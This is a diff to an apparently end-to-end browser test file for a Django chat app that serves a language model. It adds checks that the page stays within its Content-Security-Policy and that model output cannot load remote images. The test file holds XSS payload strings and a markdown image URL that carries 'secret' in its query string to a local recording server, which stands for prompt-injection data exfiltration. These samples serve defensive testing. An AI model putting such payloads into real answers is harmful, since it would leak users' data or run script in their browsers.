@@ -20,9 +20,19 @@ USERNAME, PASSWORD = "chat-tester", "chat-tester-pw-51"
 MODEL = "smollm2"
 TIMEOUT_MS = 120_000
 XSS = "<img src=x onerror=alert(1)>"
+DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
 # A saved answer as a hostile model could write it: raw HTML, a script, a javascript: link, code.
 HOSTILE_ANSWER = ("Here you go:\n\n" + XSS + "\n\n<script>alert(2)</script>\n\n[click](javascript:alert(3))\n\n"
                   "```python\nprint('hi')\n```\n")
+
+
+CSP_LISTENER = """window.__csp = [];
+document.addEventListener("securitypolicyviolation",
+  (e) => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI}`));"""
+
+
+def csp_violations(page) -> list[str]:
+    return page.evaluate("window.__csp") + page.csp_console
 
 
 def manage(site, *args: str, env: dict | None = None) -> str:
@@ -57,6 +67,10 @@ def page(browser, chat_site):
     expect.set_options(timeout=TIMEOUT_MS)  # answers take seconds on two shared CPU cores
     page.dialogs = []
     page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
+    # Whatever the page's Content-Security-Policy refused: an event in the page, a line in the console.
+    context.add_init_script(CSP_LISTENER)
+    page.csp_console = []
+    page.on("console", lambda msg: "Content Security Policy" in msg.text and page.csp_console.append(msg.text))
     page.goto(f"{chat_site.url}/")
     assert "/accounts/login/" in page.url
     page.fill("#id_username", USERNAME)
@@ -105,6 +119,7 @@ def test_login_send_see_tokens_stream_then_reload_finds_the_conversation(page, c
     expect(page.locator(".message.user .body")).to_have_text("Write three sentences about the sea.")
     expect(page.locator(".message.assistant .body")).to_have_text(final)
     assert page.dialogs == []
+    assert csp_violations(page) == []  # the whole flow (scripts, styles, WebSocket) within the policy
 
 
 def test_stop_mid_answer_aborts_the_generation_in_the_engine(page, chat_site, artifacts_dir):
@@ -141,3 +156,54 @@ def test_markup_from_the_user_or_the_model_shows_as_text_and_runs_no_script(page
     page.wait_for_timeout(300)  # an injected onerror would have fired by now
     page.screenshot(path=str(artifacts_dir / "chat-sanitized.png"))
     assert page.dialogs == []
+
+
+@pytest.fixture
+def elsewhere():
+    """Another origin that records every request it gets: where an injected prompt would send data."""
+    import http.server
+    import threading
+
+    hits = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/gif")
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", hits
+    server.shutdown()
+
+
+def test_model_output_cannot_load_a_remote_image_and_the_page_stays_within_its_csp(page, chat_site, elsewhere,
+                                                                                   artifacts_dir):
+    origin, hits = elsewhere
+    answer = (f"Summary ![the secret]({origin}/leak.png?q=secret) and a dot ![dot]({DOT})\n\n"
+              "| left | right |\n|:-----|------:|\n| a | 1 |\n")
+    conversation = manage(chat_site, "shell", "-c", (
+        "from django.contrib.auth import get_user_model; from webapp.chat.models import Conversation, Message; "
+        f"c = Conversation.objects.create(user=get_user_model().objects.get(username={USERNAME!r}), title='img'); "
+        "Message.objects.create(conversation=c, role='user', content='summarise'); "
+        f"Message.objects.create(conversation=c, role='assistant', content={answer!r}); print(c.pk)")).split()[-1]
+    page.goto(f"{chat_site.url}/c/{conversation}/")
+    body = page.locator(".message.assistant .body")
+    expect(body.locator(".blocked-image")).to_have_text("the secret")
+    expect(body.locator("img")).to_have_count(1)  # the data: image stays
+    expect(body.locator("td.align-right")).to_have_text("1")  # alignment kept, as a class
+    page.wait_for_timeout(300)
+    assert csp_violations(page) == []
+    page.screenshot(path=str(artifacts_dir / "chat-remote-image.png"))
+
+    # Should a remote image reach the page some other way, the header's img-src refuses it.
+    page.evaluate(f"() => {{ const i = new Image(); i.src = '{origin}/probe.png'; document.body.append(i); }}")
+    page.wait_for_function("() => window.__csp.length > 0")
+    assert page.evaluate("window.__csp") == [f"img-src {origin}/probe.png"]
+    page.wait_for_timeout(300)
+    assert hits == []  # the other origin never heard from the page
